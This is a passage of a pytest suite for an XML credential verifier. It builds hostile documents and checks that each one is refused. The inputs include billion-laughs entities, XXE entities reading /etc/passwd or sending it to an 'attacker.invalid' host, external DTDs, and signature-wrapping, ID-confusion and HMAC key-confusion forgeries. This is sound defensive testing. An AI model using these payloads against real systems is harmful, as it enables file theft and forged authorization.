"""Hostile and forged credential XML is refused with the right reason and GENI code, and refusals damage nothing.

Every attack document starts from a genuine credential made by the demo authority (conftest's ``pki``), parsed
with lxml, mutated and serialized again. The positive controls at the top prove that this round trip, and the
forging helpers, keep genuine signatures valid: so each refusal below is caused by the attack, not by the harness.
After every refusal the same verifier instance must still accept the genuine credential.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import re
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from sfa_omf.errors import REASON_CODES, GeniCode, Reason, TrustError
from sfa_omf.times import utcnow
from sfa_omf.trust import xmldsig
from sfa_omf.trust.credential import (
    DSIG_NS,
    XML_ID,
    CredentialRequest,
    Privilege,
    _credential_element,
    _signature_template,
    delegate_credential,
    issue_credential,
    new_document_root,
    read_credential,
    sign_document,
)
from sfa_omf.trust.gid import GidChain, chain_pem
from sfa_omf.trust.pki import create_gid, new_private_key
from sfa_omf.trust.verifier import CredentialVerifier, VerdictCache, VerifiedCredential

if TYPE_CHECKING:
    from conftest import DemoPki, DemoUser

DS = f"{{{DSIG_NS}}}"
ALICE_URN = "urn:publicid:IDN+testbed+user+alice"
BOB_URN = "urn:publicid:IDN+testbed+user+bob"
WSU_NS = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
MIB = 1024 * 1024


# ---------------------------------------------------------------------------------------------------------------
# Helpers: parse, mutate, serialize, sign


def parse(document: str | bytes) -> etree._Element:
    """Parse a (trusted, test-made) credential for mutation."""
    data = document.encode("utf-8") if isinstance(document, str) else document
    return etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))


def serialize(root: etree._Element, encoding: str = "UTF-8", doctype: str | None = None) -> bytes:
    """The document as bytes, with an XML declaration (and the given DOCTYPE, for the DTD attacks)."""
    data: bytes = etree.tostring(root.getroottree(), xml_declaration=True, encoding=encoding, doctype=doctype)
    return data


def top(root: etree._Element) -> etree._Element:
    """The top <credential> (the one the reader reads)."""
    found = root.find("credential")
    assert found is not None
    return found


def signatures(root: etree._Element) -> etree._Element:
    found = root.find("signatures")
    assert found is not None
    return found


def signature_of(root: etree._Element, xml_id: str) -> etree._Element:
    """The <Signature> whose Reference names credential xml_id."""
    for signature in signatures(root):
        reference = signature.find(f"{DS}SignedInfo/{DS}Reference")
        if reference is not None and reference.get("URI") == f"#{xml_id}":
            return signature
    raise AssertionError(f"no signature over {xml_id!r}")


def child(element: etree._Element, path: str) -> etree._Element:
    found = element.find(path)
    assert found is not None, path
    return found


def set_owner(credential: etree._Element, owner: GidChain) -> None:
    """Make a <credential> claim another owner (GID chain and URN)."""
    child(credential, "owner_gid").text = chain_pem(owner)
    child(credential, "owner_urn").text = owner[0].urn


def add_privilege(credential: etree._Element, name: str, can_delegate: bool = True) -> None:
    item = etree.SubElement(child(credential, "privileges"), "privilege")
    etree.SubElement(item, "name").text = name
    etree.SubElement(item, "can_delegate").text = "true" if can_delegate else "false"


def key_info_for(chain: GidChain) -> etree._Element:
    """A KeyInfo naming chain (leaf first), as sign_document writes it."""
    key_info = etree.Element(f"{DS}KeyInfo", nsmap={None: DSIG_NS})  # type: ignore[dict-item]
    x509_data = etree.SubElement(key_info, f"{DS}X509Data")
    for gid in chain:
        der = gid.certificate.public_bytes(serialization.Encoding.DER)
        etree.SubElement(x509_data, f"{DS}X509Certificate").text = base64.b64encode(der).decode("ascii")
    return key_info


def add_signature(
    root: etree._Element, xml_id: str, key: rsa.RSAPrivateKey, chain: GidChain, signature_id: str
) -> etree._Element:
    """Append a real signature over xml_id made with key (as sign_document does, but with our own xml:id)."""
    template = _signature_template(xml_id)
    template.set(XML_ID, signature_id)
    signatures(root).append(template)
    document = parse(etree.tostring(root))
    signature = next(node for node in document.iter(f"{DS}Signature") if node.get(XML_ID) == signature_id)
    key_pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    xmldsig.sign(signature, key_pem)
    signature.append(key_info_for(chain))
    return document


def forge_delegation(
    parent_xml: str,
    owner: GidChain,
    key: rsa.RSAPrivateKey,
    signer: GidChain,
    privileges: tuple[Privilege, ...],
    expires: datetime | None = None,
    target: GidChain | None = None,
) -> str:
    """A delegation of parent_xml built by hand, free of delegate_credential's refusals, signed with key."""
    parsed = read_credential(parent_xml)
    parent = parsed.credential
    request = CredentialRequest(
        owner_chain=owner,
        target_chain=target or parent.target_chain,
        expires=expires or parent.expires,
        privileges=privileges,
    )
    new_id = f"ref{parent.depth + 1}"
    root = new_document_root(parsed.root)
    element = _credential_element(request, new_id)
    etree.SubElement(element, "parent").append(top(parsed.root))
    root.append(element)
    holder = etree.SubElement(root, "signatures")
    for signature in list(signatures(parsed.root)):
        holder.append(signature)
    return sign_document(root, new_id, key, signer)


def dtd_attack(genuine: str, internal_subset: str, entity: str | None, encoding: str = "UTF-8") -> bytes:
    """The genuine credential with a DOCTYPE (and an internal subset), referencing entity inside <serial>."""
    root = parse(genuine)
    if entity is not None:
        serial = child(top(root), "serial")
        serial.text = None
        serial.append(etree.Entity(entity))
    doctype = f"<!DOCTYPE signed-credential [{internal_subset}]>" if internal_subset else "<!DOCTYPE signed-credential>"
    return serialize(root, encoding=encoding, doctype=doctype)


BILLION_LAUGHS = '<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
)
QUADRATIC = f'<!ENTITY big "{"A" * 20_000}">'


@dataclass
class Verdicts:
    """One verifier shared by the whole module, and the genuine credential it must keep accepting."""

    verifier: CredentialVerifier
    genuine: str

    def refuse(self, document: str | bytes, reason: Reason, *words: str) -> TrustError:
        """Assert that document is refused for reason, with a message naming words; then that nothing broke."""
        with pytest.raises(TrustError) as caught:
            self.verifier.verify(document, utcnow())
        error = caught.value
        assert error.reason is reason, f"expected {reason.value}, got {error.reason.value}: {error.message}"
        assert error.code == REASON_CODES[reason]
        assert error.message.strip()
        for word in words:
            assert word.lower() in error.message.lower(), f"{word!r} not in {error.message!r}"
        self.still_accepts_genuine()
        return error

    def still_accepts_genuine(self) -> VerifiedCredential:
        verified = self.verifier.verify(self.genuine, utcnow())
        assert verified.owner_urn == ALICE_URN
        assert verified.depth == 0
        return verified


@pytest.fixture(scope="module")
def alice(pki: DemoPki) -> DemoUser:
    return pki.users["alice"]


@pytest.fixture(scope="module")
def bob(pki: DemoPki) -> DemoUser:
    return pki.users["bob"]


@pytest.fixture(scope="module")
def carol(pki: DemoPki) -> DemoUser:
    return pki.users["carol"]


@pytest.fixture(scope="module")
def genuine(alice: DemoUser) -> str:
    """Alice's slice credential over testbed.demo, issued (and signed) by the testbed authority."""
    return alice.slice_cred


@pytest.fixture(scope="module")
def verdicts(pki: DemoPki, genuine: str) -> Verdicts:
    return Verdicts(verifier=CredentialVerifier(pki.roots), genuine=genuine)


@pytest.fixture(scope="module")
def delegated(genuine: str, alice: DemoUser, bob: DemoUser) -> str:
    """A legitimate delegation alice -> bob of 'info' and 'control' (made with delegate_credential)."""
    return delegate_credential(genuine, bob.chain, alice.key, alice.chain, privileges=("info", "control"))


# ---------------------------------------------------------------------------------------------------------------
# Positive controls: the harness itself does not break signatures


def test_genuine_credential_survives_the_parse_serialize_round_trip(verdicts: Verdicts, genuine: str) -> None:
    """The mutation harness (parse + serialize) alone keeps the signature valid, so refusals below are real."""
    verdicts.still_accepts_genuine()
    verified = verdicts.verifier.verify(serialize(parse(genuine)), utcnow())
    assert verified.privileges == ("refresh", "embed", "bind", "control", "info")
    # Re-encoding alone is harmless too: the UTF-16 attacks below are refused for their DOCTYPE, not their encoding.
    for encoding in ("UTF-16", "UTF-16BE"):
        reencoded = verdicts.verifier.verify(serialize(parse(genuine), encoding=encoding), utcnow())
        assert (reencoded.owner_urn, reencoded.privileges, reencoded.expires) == (
            verified.owner_urn,
            verified.privileges,
            verified.expires,
        )


def test_legitimate_delegations_verify(
    verdicts: Verdicts, genuine: str, delegated: str, pki: DemoPki, alice: DemoUser, bob: DemoUser
) -> None:
    """delegate_credential and the hand-made forge_delegation both verify when every delegation rule holds."""
    verified = verdicts.verifier.verify(delegated, utcnow())
    assert (verified.owner_urn, verified.depth, verified.privileges) == (BOB_URN, 1, ("info", "control"))
    by_hand = forge_delegation(genuine, bob.chain, alice.key, alice.chain, (Privilege("info", False),))
    verified = verdicts.verifier.verify(by_hand, utcnow())
    assert (verified.owner_urn, verified.target_urn, verified.privileges) == (BOB_URN, pki.slice_urn, ("info",))
    resigned = parse(genuine)
    signatures(resigned).remove(signature_of(resigned, "ref0"))
    again = sign_document(resigned, "ref0", pki.authority.key, pki.authority.chain)
    assert verdicts.verifier.verify(again, utcnow()).owner_urn == ALICE_URN


def test_add_signature_helper_makes_signatures_that_verify(verdicts: Verdicts, genuine: str, bob: DemoUser) -> None:
    """add_signature's signature is cryptographically valid: alone, it fails only the issuer rule (bob is a user)."""
    root = parse(genuine)
    signatures(root).remove(signature_of(root, "ref0"))
    document = add_signature(root, "ref0", bob.key, bob.chain, "Sig_bob")
    verdicts.refuse(serialize(document), Reason.ISSUER, BOB_URN)


# ---------------------------------------------------------------------------------------------------------------
# 1-6: hostile XML (DTDs, entities, size, depth, encodings)


@pytest.mark.parametrize("as_text", [False, True], ids=["bytes", "str"])
def test_billion_laughs_is_refused_before_expansion(verdicts: Verdicts, genuine: str, as_text: bool) -> None:
    """Billion laughs: nested internal entities that would expand to 10**9 'lol's inside <serial>."""
    document = dtd_attack(genuine, BILLION_LAUGHS, "lol9")
    assert len(document) < 64 * 1024
    error = verdicts.refuse(document.decode("utf-8") if as_text else document, Reason.HOSTILE_XML, "entit")
    assert error.code == GeniCode.CREDENTIAL_INVALID


def test_quadratic_blowup_is_refused(verdicts: Verdicts, genuine: str) -> None:
    """Quadratic blowup: one 20 kB entity referenced 200 times (4 MB once expanded)."""
    root = parse(genuine)
    serial = child(top(root), "serial")
    serial.text = None
    for _ in range(200):
        serial.append(etree.Entity("big"))
    document = serialize(root, doctype=f"<!DOCTYPE signed-credential [{QUADRATIC}]>")
    assert len(document) < 64 * 1024
    verdicts.refuse(document, Reason.HOSTILE_XML, "entit")


@pytest.mark.parametrize(
    ("internal_subset", "entity"),
    [
        ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "xxe"),
        ('<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;', None),
        ('<!ENTITY xxe SYSTEM "http://attacker.invalid/steal?file=/etc/passwd">', "xxe"),
    ],
    ids=["general-entity-file", "parameter-entity-file", "general-entity-network"],
)
def test_external_entities_are_refused_and_leak_nothing(
    verdicts: Verdicts, genuine: str, internal_subset: str, entity: str | None
) -> None:
    """XXE: an external entity pointing at /etc/passwd (or the network) is refused and its content never shown."""
    error = verdicts.refuse(dtd_attack(genuine, internal_subset, entity), Reason.HOSTILE_XML, "entit")
    assert "root:" not in str(error)
    passwd = Path("/etc/passwd")
    if passwd.exists():
        for line in passwd.read_text(errors="replace").splitlines():
            if line.strip():
                assert line not in str(error)


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE signed-credential>",
        '<!DOCTYPE signed-credential SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE signed-credential PUBLIC "-//attacker//DTD x//EN" "http://attacker.invalid/x.dtd">',
        "<!doctype signed-credential>",
    ],
    ids=["bare", "external-system", "external-public", "lowercase"],
)
def test_doctype_without_entities_is_refused(verdicts: Verdicts, genuine: str, doctype: str) -> None:
    """A DOCTYPE of any kind (even one declaring nothing) is refused: credentials have no use for DTDs."""
    document = serialize(parse(genuine))
    head, _, body = document.partition(b"?>")
    verdicts.refuse(head + b"?>\n" + doctype.encode("ascii") + body, Reason.HOSTILE_XML, "DOCTYPE")


def test_oversized_credential_is_refused(verdicts: Verdicts, genuine: str) -> None:
    """Resource exhaustion: a credential over 1 MiB (a huge <serial>) is refused before parsing."""
    root = parse(genuine)
    child(top(root), "serial").text = "9" * (MIB + 1)
    document = serialize(root)
    assert len(document) > MIB
    verdicts.refuse(document, Reason.HOSTILE_XML, "bytes", "limit")


def nested(genuine: str, levels: int) -> bytes:
    root = parse(genuine)
    element = child(top(root), "uuid")
    for _ in range(levels):
        element = etree.SubElement(element, "x")
    return serialize(root)


def test_deeply_nested_credential_is_refused(verdicts: Verdicts, genuine: str) -> None:
    """Deep nesting: 200 nested elements inside <uuid> exceed the credential depth limit of 32."""
    verdicts.refuse(nested(genuine, 200), Reason.HOSTILE_XML, "deeper")


def test_nesting_beyond_the_parser_limit_is_hostile_too(verdicts: Verdicts, genuine: str) -> None:
    """Deep nesting past libxml2's own limit (256): still 'too deep', so HOSTILE_XML, not MALFORMED."""
    error = verdicts.refuse(nested(genuine, 1000), Reason.HOSTILE_XML)
    assert re.search(r"deep|depth", error.message), error.message


@pytest.mark.parametrize(
    ("internal_subset", "entity"),
    [
        ("", None),
        ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "xxe"),
        (BILLION_LAUGHS, "lol9"),
    ],
    ids=["doctype", "external-entity", "billion-laughs"],
)
@pytest.mark.parametrize("encoding", ["UTF-16", "UTF-16BE"])
def test_doctype_in_utf16_is_refused(
    verdicts: Verdicts, genuine: str, encoding: str, internal_subset: str, entity: str | None
) -> None:
    """A DOCTYPE in UTF-16, where a byte scan for '<!DOCTYPE' / '<!ENTITY' sees nothing, is still hostile."""
    document = dtd_attack(genuine, internal_subset, entity, encoding=encoding)
    assert b"<!DOCTYPE" not in document
    assert b"<!ENTITY" not in document
    error = verdicts.refuse(document, Reason.HOSTILE_XML)
    assert re.search(r"DOCTYPE|DTD|entit", error.message), error.message


# ---------------------------------------------------------------------------------------------------------------
# 7: not a credential


@pytest.mark.parametrize(
    "document",
    [b"", b"not xml at all", b"\x00\x01\x02", b"\xff\xfe\xff\x00<", "", '{"credential": 1}'],
    ids=["empty-bytes", "text", "binary", "bad-bom", "empty-str", "json"],
)
def test_not_xml_is_malformed(verdicts: Verdicts, document: str | bytes) -> None:
    """Garbage instead of XML is MALFORMED and says it is not well-formed XML."""
    verdicts.refuse(document, Reason.MALFORMED, "well-formed")


def test_string_that_cannot_be_utf8_is_refused_not_crashing(verdicts: Verdicts, genuine: str) -> None:
    """A str carrying a lone surrogate (not encodable as UTF-8) must be a TrustError, not a UnicodeEncodeError."""
    verdicts.refuse(genuine.replace("<serial>", "<serial>\ud800", 1), Reason.MALFORMED)


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.99])
def test_truncated_credential_is_malformed(verdicts: Verdicts, genuine: str, fraction: float) -> None:
    """A credential cut short in transit is MALFORMED (not well-formed XML)."""
    data = genuine.encode("utf-8")
    verdicts.refuse(data[: int(len(data) * fraction)], Reason.MALFORMED, "well-formed")


def test_wrong_root_element_is_malformed(verdicts: Verdicts, genuine: str) -> None:
    """A signed credential wrapped in another root (or an RSpec sent instead) is MALFORMED."""
    wrapper = etree.Element("rspec")
    wrapper.append(parse(genuine))
    verdicts.refuse(serialize(wrapper), Reason.MALFORMED, "signed-credential", "rspec")


def test_missing_signatures_element_is_a_signature_refusal(verdicts: Verdicts, genuine: str) -> None:
    """A credential with no <signatures> at all is unsigned: SIGNATURE, not MALFORMED."""
    root = parse(genuine)
    root.remove(signatures(root))
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "not signed")


@pytest.mark.parametrize("tag", ["owner_gid", "target_gid", "type", "expires", "privileges"])
def test_missing_required_element_is_malformed(verdicts: Verdicts, genuine: str, tag: str) -> None:
    """A credential without a required element is MALFORMED, naming the element."""
    root = parse(genuine)
    top(root).remove(child(top(root), tag))
    verdicts.refuse(serialize(root), Reason.MALFORMED, f"<{tag}>")


def test_unreadable_owner_gid_is_malformed(verdicts: Verdicts, genuine: str) -> None:
    """An owner_gid that holds no certificate is MALFORMED."""
    root = parse(genuine)
    child(top(root), "owner_gid").text = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
    verdicts.refuse(serialize(root), Reason.MALFORMED, "owner_gid")


def test_missing_top_credential_is_malformed(verdicts: Verdicts, genuine: str) -> None:
    """A <signed-credential> holding only signatures is MALFORMED."""
    root = parse(genuine)
    root.remove(top(root))
    verdicts.refuse(serialize(root), Reason.MALFORMED, "no <credential>")


def test_two_top_level_credentials_are_refused(verdicts: Verdicts, genuine: str, bob: DemoUser) -> None:
    """Two <credential> elements side by side (the second with a fresh xml:id): the reader will not pick one."""
    root = parse(genuine)
    extra = copy.deepcopy(top(root))
    extra.set(XML_ID, "ref7")
    set_owner(extra, bob.chain)
    root.insert(0, extra)
    verdicts.refuse(serialize(root), Reason.MALFORMED, "2 <credential>")


def test_excessive_delegation_depth_is_refused(verdicts: Verdicts, genuine: str) -> None:
    """A chain of ten nested <parent> credentials is refused (more than MAX_DELEGATION_DEPTH delegations)."""
    root = parse(genuine)
    innermost = top(root)
    for level in range(1, 11):
        outer = copy.deepcopy(innermost)
        for old in outer.findall("parent"):
            outer.remove(old)
        outer.set(XML_ID, f"ref{level}")
        etree.SubElement(outer, "parent").append(innermost)
        innermost = outer
    root.insert(0, innermost)
    verdicts.refuse(serialize(root), Reason.MALFORMED, "delegated more than")


# ---------------------------------------------------------------------------------------------------------------
# Tampering with signed content


@pytest.mark.parametrize("change", ["owner", "privilege", "expires", "target", "can_delegate", "serial"])
def test_tampered_signed_content_does_not_verify(
    verdicts: Verdicts, genuine: str, alice: DemoUser, bob: DemoUser, change: str
) -> None:
    """Edit a signed field of the genuine credential in place: the signature no longer verifies."""
    root = parse(genuine)
    credential = top(root)
    if change == "owner":
        set_owner(credential, bob.chain)
    elif change == "privilege":
        add_privilege(credential, "authority")
    elif change == "expires":
        child(credential, "expires").text = "2099-01-01T00:00:00Z"
    elif change == "target":
        child(credential, "target_gid").text = chain_pem(alice.chain)
        child(credential, "target_urn").text = ALICE_URN
    elif change == "can_delegate":
        child(credential, "privileges/privilege/can_delegate").text = "false"
    else:
        child(credential, "serial").text = "1"
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "does not verify", "altered")


@pytest.mark.parametrize(("field", "keep"), [("expires", 10), ("privileges/privilege/name", 2), ("owner_urn", 30)])
def test_comment_injected_into_signed_field_does_not_change_what_is_read(
    verdicts: Verdicts, genuine: str, field: str, keep: int
) -> None:
    """Comment truncation: C14N drops comments, so '<expires>2026-12-22<!---->T02:55:30Z' keeps the signature
    valid. The verifier must then refuse, or read exactly what was signed -- never the text before the comment."""
    expected = verdicts.still_accepts_genuine()
    root = parse(genuine)
    element = child(top(root), field)
    text = element.text or ""
    element.text = text[:keep]
    comment = etree.Comment(" injected ")
    comment.tail = text[keep:]
    element.append(comment)
    try:
        verified = verdicts.verifier.verify(serialize(root), utcnow())
    except TrustError as error:
        assert error.message
    else:
        assert (verified.owner_urn, verified.expires, verified.privileges) == (
            expected.owner_urn,
            expected.expires,
            expected.privileges,
        ), f"the reader saw the truncated text of <{field}> ({text[:keep]!r}), not what the signature covers"
    verdicts.still_accepts_genuine()


# ---------------------------------------------------------------------------------------------------------------
# 8a-b: signature wrapping and ID confusion


@pytest.mark.parametrize("hide_in", ["root", "signatures", "unknown-element"])
def test_wrapping_forged_top_credential_with_colliding_id(
    verdicts: Verdicts, genuine: str, bob: DemoUser, hide_in: str
) -> None:
    """Wrapping: a forged credential (owner bob, extra privilege) on top as 'ref0', the signed original moved away."""
    root = parse(genuine)
    original = top(root)
    forged = copy.deepcopy(original)
    set_owner(forged, bob.chain)
    add_privilege(forged, "authority")
    root.remove(original)
    root.insert(0, forged)
    if hide_in == "root":
        root.append(original)
    elif hide_in == "signatures":
        signatures(root).append(original)
    else:
        etree.SubElement(root, "extensions").append(original)
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "appears twice", "ref0")


@pytest.mark.parametrize("hide_in", ["root", "signatures"])
def test_wrapping_forged_top_credential_with_fresh_id(
    verdicts: Verdicts, genuine: str, bob: DemoUser, hide_in: str
) -> None:
    """Wrapping without an ID collision: forged 'ref1' on top, the signed 'ref0' kept elsewhere for its signature."""
    root = parse(genuine)
    original = top(root)
    forged = copy.deepcopy(original)
    forged.set(XML_ID, "ref1")
    set_owner(forged, bob.chain)
    root.remove(original)
    root.insert(0, forged)
    if hide_in == "root":
        etree.SubElement(root, "extensions").append(original)
    else:
        etree.SubElement(signatures(root), "extensions").append(original)
    document = serialize(root)
    assert read_credential(document).credential.owner_urn == BOB_URN  # the reader would see bob as the owner
    verdicts.refuse(document, Reason.SIGNATURE, "'ref0'", "not a credential of this chain")


def test_wrapping_with_original_id_stripped(verdicts: Verdicts, genuine: str, bob: DemoUser) -> None:
    """Wrapping where the moved original loses its xml:id: '#ref0' now resolves to the forgery, which fails."""
    root = parse(genuine)
    original = top(root)
    forged = copy.deepcopy(original)
    set_owner(forged, bob.chain)
    root.remove(original)
    del original.attrib[XML_ID]
    root.insert(0, forged)
    etree.SubElement(root, "extensions").append(original)
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "does not verify")


def test_wrapping_as_a_fake_unsigned_delegation(verdicts: Verdicts, genuine: str, bob: DemoUser) -> None:
    """Bob wraps alice's genuine credential as the <parent> of his own, unsigned, credential."""
    root = parse(genuine)
    original = top(root)
    forged = copy.deepcopy(original)
    forged.set(XML_ID, "ref1")
    set_owner(forged, bob.chain)
    root.remove(original)
    etree.SubElement(forged, "parent").append(original)
    root.insert(0, forged)
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "'ref1' is not signed")


@pytest.mark.parametrize("where", ["root", "inside-parent-chain", "inside-signature"])
def test_duplicate_xml_id_is_id_confusion(verdicts: Verdicts, genuine: str, delegated: str, where: str) -> None:
    """Two <credential xml:id="ref0">: an ID that can name two elements is refused before any signature check."""
    if where == "root":
        root = parse(genuine)
        root.append(copy.deepcopy(top(root)))
    elif where == "inside-parent-chain":
        root = parse(delegated)  # ref0 is already nested in ref1's <parent>; add another ref0 at the top level
        root.append(copy.deepcopy(child(top(root), "parent/credential")))
    else:
        root = parse(genuine)
        signature_of(root, "ref0").append(copy.deepcopy(top(root)))
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "'ref0' appears twice", "ID confusion")


# ---------------------------------------------------------------------------------------------------------------
# 8c-f: what the signature refers to, ID-like attributes, Object, duplicate signatures


@pytest.mark.parametrize(
    ("uri", "words"),
    [
        ("#ref9", ("'ref9'", "not a credential of this chain")),
        ("#xpointer(id('ref0'))", ("xpointer", "not a credential of this chain")),
        ("#xpointer(/)", ("xpointer(/)", "not a credential of this chain")),
        ("", ("must name a credential",)),
        ("#", ("must name a credential",)),
        ("http://attacker.invalid/credential.xml#ref0", ("must name a credential",)),
    ],
    ids=["other-element", "xpointer-id", "xpointer-root", "whole-document", "bare-hash", "external"],
)
def test_reference_to_another_element_is_refused(
    verdicts: Verdicts, genuine: str, uri: str, words: tuple[str, ...]
) -> None:
    """A signature whose Reference points at something else than a credential of the chain is refused."""
    root = parse(genuine)
    decoy = copy.deepcopy(top(root))
    decoy.set(XML_ID, "ref9")
    etree.SubElement(root, "extensions").append(decoy)
    child(signature_of(root, "ref0"), f"{DS}SignedInfo/{DS}Reference").set("URI", uri)
    verdicts.refuse(serialize(root), Reason.SIGNATURE, *words)


@pytest.mark.parametrize(
    ("attribute", "on"),
    [
        ("Id", "credential"),
        ("ID", "credential"),
        ("id", "credential"),
        ("Id", "signature"),
        ("id", "serial"),
        (f"{{{WSU_NS}}}Id", "credential"),
    ],
    ids=["Id", "ID", "id", "Id-on-Signature", "id-on-serial", "wsu:Id"],
)
def test_id_like_attribute_is_refused(verdicts: Verdicts, genuine: str, attribute: str, on: str) -> None:
    """An attribute an XML-DSig implementation might take for an ID (Id, ID, id, wsu:Id) is ID confusion."""
    root = parse(genuine)
    if on == "credential":
        target = top(root)
    elif on == "signature":
        target = signature_of(root, "ref0")
    else:
        target = child(top(root), "serial")
    target.set(attribute, "ref0")
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "ID confusion", etree.QName(attribute).localname)


def test_object_holding_a_copy_of_the_credential_is_refused(verdicts: Verdicts, genuine: str) -> None:
    """A <ds:Object> in the signature carrying a copy of the signed credential (a wrapping vehicle) is refused."""
    root = parse(genuine)
    holder = etree.SubElement(signature_of(root, "ref0"), f"{DS}Object")
    decoy = copy.deepcopy(top(root))
    del decoy.attrib[XML_ID]
    holder.append(decoy)
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "<Object>", "wrapping")


def test_object_wrapping_of_the_original_under_a_forgery_is_refused(
    verdicts: Verdicts, genuine: str, bob: DemoUser
) -> None:
    """Classic Object wrapping: the signed original moved into <ds:Object>, a forgery (owner bob) on top."""
    root = parse(genuine)
    original = top(root)
    forged = copy.deepcopy(original)
    forged.set(XML_ID, "ref1")
    set_owner(forged, bob.chain)
    signature = signature_of(root, "ref0")
    root.remove(original)
    root.insert(0, forged)
    etree.SubElement(signature, f"{DS}Object").append(original)
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "<Object>")


def test_two_copies_of_the_signature_are_refused(verdicts: Verdicts, genuine: str) -> None:
    """Two (valid) Signature elements over the same credential: the verifier will not choose between them."""
    root = parse(genuine)
    duplicate = copy.deepcopy(signature_of(root, "ref0"))
    duplicate.set(XML_ID, "Sig_ref0_again")
    signatures(root).append(duplicate)
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "two signatures", "'ref0'")


def test_two_copies_of_the_signature_with_the_same_id_are_refused(verdicts: Verdicts, genuine: str) -> None:
    """The same with the copy keeping xml:id 'Sig_ref0': refused as ID confusion."""
    root = parse(genuine)
    signatures(root).append(copy.deepcopy(signature_of(root, "ref0")))
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "'Sig_ref0' appears twice")


@pytest.mark.parametrize("first", [True, False], ids=["bob-first", "bob-second"])
def test_second_signature_by_another_signer_is_refused(
    verdicts: Verdicts, genuine: str, bob: DemoUser, first: bool
) -> None:
    """Bob adds his own valid signature over the authority-signed credential: two signatures, refused."""
    document = add_signature(parse(genuine), "ref0", bob.key, bob.chain, "Sig_bob")
    if first:
        holder = signatures(document)
        holder.insert(0, signature_of_id(holder, "Sig_bob"))
    verdicts.refuse(serialize(document), Reason.SIGNATURE, "two signatures")


def signature_of_id(holder: etree._Element, signature_id: str) -> etree._Element:
    return next(node for node in holder if node.get(XML_ID) == signature_id)


# ---------------------------------------------------------------------------------------------------------------
# 8g-j: algorithms, transforms, removed or swapped signature material


@pytest.mark.parametrize(
    "algorithm",
    [
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        "http://www.w3.org/2002/06/xmldsig-filter2",
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        "http://www.w3.org/2000/09/xmldsig#base64",
    ],
    ids=["xpath", "xpath-filter2", "xslt", "base64"],
)
def test_reference_transform_outside_the_allow_list_is_refused(
    verdicts: Verdicts, genuine: str, algorithm: str
) -> None:
    """A Reference with an XPath/XSLT (or other) transform, able to make the digest cover something else."""
    root = parse(genuine)
    transforms = child(signature_of(root, "ref0"), f"{DS}SignedInfo/{DS}Reference/{DS}Transforms")
    transform = etree.SubElement(transforms, f"{DS}Transform")
    transform.set("Algorithm", algorithm)
    if "xpath" in algorithm:
        etree.SubElement(transform, f"{DS}XPath").text = "not(ancestor-or-self::owner_urn)"
    elif "xslt" in algorithm:
        stylesheet = etree.SubElement(transform, "{http://www.w3.org/1999/XSL/Transform}stylesheet")
        stylesheet.set("version", "1.0")
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "transform", algorithm)


@pytest.mark.parametrize(
    ("path", "algorithm", "word"),
    [
        ("SignatureMethod", "http://www.w3.org/2000/09/xmldsig#hmac-sha1", "RSA"),
        ("SignatureMethod", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", "RSA"),
        ("SignatureMethod", "http://www.w3.org/2000/09/xmldsig#dsa-sha1", "RSA"),
        ("CanonicalizationMethod", "http://www.w3.org/TR/1999/REC-xslt-19991116", "canonicalization"),
        ("Reference/DigestMethod", "http://www.w3.org/2001/04/xmldsig-more#md5", "digest"),
    ],
    ids=["hmac-sha1", "hmac-sha256", "dsa-sha1", "c14n-xslt", "digest-md5"],
)
def test_algorithm_outside_the_allow_list_is_refused(
    verdicts: Verdicts, genuine: str, path: str, algorithm: str, word: str
) -> None:
    """Algorithm confusion: HMAC (keyed with the public key), DSA, XSLT as C14N, MD5 digests are refused."""
    root = parse(genuine)
    signed_info = child(signature_of(root, "ref0"), f"{DS}SignedInfo")
    element = child(signed_info, "/".join(f"{DS}{part}" for part in path.split("/")))
    element.set("Algorithm", algorithm)
    if "hmac" in algorithm:
        etree.SubElement(element, f"{DS}HMACOutputLength").text = "0"  # CVE-2009-0217's truncated HMAC
    verdicts.refuse(serialize(root), Reason.SIGNATURE, word)


def test_hmac_signature_value_keyed_with_public_key_is_refused(verdicts: Verdicts, genuine: str, pki: DemoPki) -> None:
    """HMAC key confusion: a real HMAC over the genuine SignedInfo, keyed with the authority's public certificate."""
    root = parse(genuine)
    signature = signature_of(root, "ref0")
    signed_info = child(signature, f"{DS}SignedInfo")
    child(signed_info, f"{DS}SignatureMethod").set("Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
    public = pki.authority.chain[0].pem().encode("ascii")
    canonical = etree.tostring(signed_info, method="c14n")
    child(signature, f"{DS}SignatureValue").text = base64.b64encode(
        hmac.new(public, canonical, hashlib.sha1).digest()
    ).decode("ascii")
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "hmac-sha1")


SIGNATURE_DAMAGE: dict[str, tuple[str, ...]] = {
    "remove-signature": ("'ref0' is not signed",),
